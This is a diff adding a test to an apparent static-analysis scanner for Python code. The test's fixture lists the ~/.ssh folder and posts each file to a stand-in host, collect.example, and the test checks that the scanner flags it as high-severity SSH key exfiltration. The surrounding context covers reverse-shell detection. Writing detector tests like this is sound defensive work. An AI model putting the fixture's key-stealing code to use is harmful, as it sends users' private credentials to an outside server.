@@ -158,3 +158,21 @@ test('a loop that runs the command lines a server replies with is a remote shell
   const local = source.replace('for line in runcommand(resp)', 'for line in runcommand(LOCAL_COMMAND)');
   assert.equal(ruleOf(findings(local), 'reverse-shell'), undefined, 'a command from elsewhere than the reply');
 });
+
+test('files listed in the ~/.ssh folder and posted are SSH keys sent out (high, even when called)', () => {
+  const list = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      [
+        'import os, requests',
+        'def go():',
+        '    d = os.path.join(os.path.expanduser("~"), ".ssh")',
+        '    for name in os.listdir(d):',
+        '        requests.post("https://collect.example/y", files={"f": open(os.path.join(d, name), "rb")})',
+      ].join('\n'),
+    ),
+  )[0].findings;
+  const sent = list.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /SSH keys/);
+});
